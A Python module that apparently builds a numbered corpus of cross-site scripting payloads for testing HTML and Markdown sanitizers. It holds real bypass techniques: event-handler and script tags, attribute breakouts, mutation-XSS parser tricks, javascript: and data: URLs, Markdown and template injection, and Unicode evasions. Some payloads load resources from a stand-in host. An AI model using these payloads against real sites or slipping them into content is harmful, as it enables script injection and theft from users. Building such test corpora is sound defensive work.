"""Texts that try to run a script on a page; each would call ``xss`` with its own number."""

from collections.abc import Iterator
from itertools import product

_ELEMENTS = [
    "<script>CALL</script>",
    "<ScRiPt\n>CALL</sCrIpT\t>",
    "<script src=data:,CALL></script>",
    "<script src=//xss.invalid/0></script>",
    "<script type=module>CALL</script>",
    "<scr<script>ipt>CALL</scr</script>ipt>",
    "<img src=x onerror=CALL>",
    "<img src=x oNeRrOr=CALL//",
    "<img/src=x/onerror=CALL>",
    "<image src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<svg/onload=CALL//",
    "<svg><script>CALL</script></svg>",
    "<svg><script href=data:,CALL /></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:CALL><text x=9 y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=CALL>#x'>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "<math href=javascript:CALL>x</math>",
    "<math><mi xlink:href=javascript:CALL>x</mi></math>",
    "<iframe src=javascript:CALL></iframe>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<object data=javascript:CALL></object>",
    "<object data='data:text/html,<script>CALL</script>'></object>",
    "<embed src=javascript:CALL>",
    "<form action=javascript:CALL><button>x</button></form>",
    "<button formaction=javascript:CALL>x</button>",
    "<input autofocus onfocus=CALL>",
    "<textarea autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL>",
    "<details open ontoggle=CALL>x</details>",
    "<video><source onerror=CALL></video>",
    "<video src=x onerror=CALL></video>",
    "<audio src=x onerror=CALL>",
    "<body onload=CALL>",
    "<body onpageshow=CALL>",
    "<link rel=stylesheet href=x onerror=CALL>",
    "<style onload=CALL></style>",
    "<style>@import '//xss.invalid/0'; *{background:url(//xss.invalid/0)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<meta http-equiv=refresh content='0;url=//xss.invalid/0'>",
    "<base href=//xss.invalid/>",
    "<marquee onstart=CALL>x</marquee>",
    "<p style='background:url(//xss.invalid/0)' onclick=CALL>x</p>",
    "<p popover id=x onbeforetoggle=CALL>x</p><button popovertarget=x>x</button>",
    "<x onanimationstart=CALL style='animation:x 1s'>x</x>",
    "<x contenteditable autofocus onfocus=CALL tabindex=1>x</x>",
    "<a href=javascript:CALL>x</a>",
    "<a href='//x' onmouseover=CALL ping=//xss.invalid/0>x</a>",
    "<template shadowrootmode=open><img src=x onerror=CALL></template>",
]
# Ways out of the element or attribute with a text.
_BREAKOUTS = [
    '">TEXT',
    "'>TEXT",
    "</title>TEXT",
    "</textarea>TEXT",
    "--> TEXT",
    "]]>TEXT",
    "</script>TEXT",
    '</script><script type="application/ld+json">TEXT',
    "</style>TEXT",
    "</p></div></article></main>TEXT",
    '"}]}</script>TEXT',
    '\\"}</script>TEXT',
]
_BREAKING = ["<img src=x onerror=CALL>", "<script>CALL</script>", "<svg onload=CALL>"]
_ATTRIBUTES = [
    '" onerror="CALL',
    '" onload=CALL x="',
    "' onmouseover='CALL",
    '" autofocus onfocus="CALL',
    "` onclick=`CALL",
    '"onpointerenter="CALL',
    '" style="background:url(//xss.invalid/0)" x="',
    '" srcset="//xss.invalid/0 2x',
    "x onfocus=CALL autofocus tabindex=1",
    "&quot; onfocus=&quot;CALL",
    '" \u00a0onload="CALL',
    '"\tonload="CALL"\n',
]
# Markup that is parsed differently the second time.
_MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CALL&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=CALL>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
    '<noscript><p title="</noscript><img src=x onerror=CALL>">',
    "<table><td><a title='</td></table><img src=x onerror=CALL>'>x</a>",
    '<xmp><p title="</xmp><img src=x onerror=CALL>">',
    "<svg><style><img src=x onerror=CALL></style></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=CALL></annotation-xml></math>",
    "<!--><img src=x onerror=CALL>-->",
    "<!---!><img src=x onerror=CALL>",
    "<![CDATA[<img src=x onerror=CALL>]]>",
    "<?x ><img src=x onerror=CALL>?>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=CALL>">',
    "<plaintext><img src=x onerror=CALL>",
    "<<img src=x onerror=CALL>>",
    "<a\x0bhref=javascript:CALL>x</a>",
]
_SCHEMES = [
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "java\tscript:CALL",
    "java\nscript:CALL",
    "\x01javascript:CALL",
    " javascript:CALL",
    "javascript&colon;CALL",
    "&#106;avascript:CALL",
    "&#x6a&#x61vascript:CALL",
    "java&Tab;script:CALL",
    "javascript://x.example/%0aCALL",
    "javascript:javascript:CALL",
    "vbscript:CALL",
    "data:text/html,<script>opener.CALL</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
    'http://x.example/" onclick="CALL',
    "https://x.example/?'onfocus='CALL' autofocus x='",
    "\u2028javascript:CALL",
    "view-source:javascript:CALL",
]
_LINKS = ["[x](SCHEME)", "![x](<SCHEME>)", "[x][r]\n\n[r]: <SCHEME>", "<SCHEME>"]
_MARKDOWN = [
    '[x](http://x.example "\\" onmouseover=CALL x=\\"")',
    "[x](http://x.example 'x\" onmouseover=\"CALL')",
    '![x" onerror="CALL](x.png)',
    '![x](x.png "\\" onerror=CALL")',
    "![</figcaption><script>CALL</script>](/x.png '</figcaption><script>CALL</script>')",
    '```" onload=CALL\nx\n```',
    "```js</code></pre><script>CALL</script>\nx\n```",
    "```html\n</code></pre><img src=x onerror=CALL>\n```",
    "`</code><img src=x onerror=CALL>`",
    "# <img src=x onerror=CALL>",
    '## x" onclick="CALL',
    "> [!NOTE]<img src=x onerror=CALL>\n> x",
    "> [!NOTE]\n> <script>CALL</script>",
    "[^a]\n\n[^a]: <img src=x onerror=CALL>",
    '[^"onclick=CALL]\n\n[^"onclick=CALL]: x',
    "| <img src=x onerror=CALL> |\n|---|\n| <script>CALL</script> |",
    '| x |\n|:-"onclick=CALL|\n| y |',
    "- [x] <input onfocus=CALL autofocus>",
    'http://x.example/"onmouseover=CALL',
    "www.x.example/<script>CALL</script>",
    'a"onmouseover=CALL@x.example',
    "&lt;script&gt;CALL&lt;/script&gt;",
    "&#60;img src=x onerror=CALL&#62;",
    "\\<script>CALL\\</script>",
    "[x](http://x.example){onclick=CALL}",
    "~~<svg onload=CALL>~~",
    "<div\n\n<img src=x onerror=CALL\n\n>",
    "[<img src=x onerror=CALL>](http://x.example)",
    "[x]: javascript:CALL '\"><script>CALL</script>'\n\n[x]",
    "***<script>CALL</script>***",
    "$\\href{javascript:CALL}{x}$",
    "$\\text{</mtext><img src=x onerror=CALL>}$",
    "$$\n</annotation></semantics></math><script>CALL</script>\n$$",
    "$$\n\\style{x:expression(CALL)}{a} \\class{blog-copy}{b}\n$$",
    "<details open ontoggle=CALL>\n<summary>x</summary>\n</details>",
    "<details open>\n<summary><img src=x onerror=CALL></summary>\n<script>CALL</script>\n</details>",
    "==<svg onload=CALL>== <kbd onclick=CALL>x</kbd>",
    "<img src=x onerror=CALL>\n: <script>CALL</script>",
    'https://youtu.be/dQw4w9WgXcQ?x="onmouseover=CALL',
]
_ELSEWHERE = [
    "\u2028CALL\u2029",
    "';CALL//",
    '";CALL//',
    "\\';CALL//",
    "${CALL}",
    "{{ CALL }}",
    "{% if CALL %}",
    "{{constructor.constructor('CALL')()}}",
    "\uff1cscript\uff1eCALL\uff1c/script\uff1e",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    "%3Cscript%3ECALL%3C/script%3E",
    "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
    "\u202e<script>CALL</script>",
    "<scrip\u200bt>CALL</script>",
    "<\u017fcript>CALL</\u017fcript>",
    "<\u0131mg src=x onerror=CALL>",
    "</a" + "<b" * 8 + "><img src=x onerror=CALL>",
]


def _templates() -> Iterator[str]:
    yield from _ELEMENTS
    yield from (out.replace("TEXT", element) for out, element in product(_BREAKOUTS, _BREAKING))
    yield from _ATTRIBUTES
    yield from _MUTATIONS
    yield from _SCHEMES
    yield from (link.replace("SCHEME", scheme) for link, scheme in product(_LINKS, _SCHEMES))
    yield from _MARKDOWN
    yield from _ELSEWHERE


def _numbered() -> list[str]:
    return [
        template.replace("CALL", f"xss({number})").replace("invalid/0", f"invalid/{number}")
        for number, template in enumerate(_templates())
    ]


PAYLOADS = _numbered()
